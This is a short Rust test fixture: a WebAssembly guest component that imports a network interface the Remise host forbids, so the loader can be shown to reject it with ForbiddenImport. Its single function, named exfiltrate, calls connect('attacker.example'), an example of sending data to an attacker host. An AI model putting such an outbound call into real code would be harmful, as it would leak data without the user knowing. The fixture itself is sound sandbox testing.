//! A component that imports `acme:evil/network@1.0.0`, an interface the Remise host never
//! offers, and calls it (so the linker keeps the import): `Runtime::load` must refuse it
//! with `ForbiddenImport` before anything of it runs.

#[allow(missing_docs, unsafe_code, clippy::all)]
mod wit {
    wit_bindgen::generate!({ path: "wit", world: "evil" });
}

struct Evil;

impl wit::Guest for Evil {
    fn exfiltrate() -> String {
        wit::acme::evil::network::connect("attacker.example");
        "sent".into()
    }
}

wit::export!(Evil with_types_in wit);
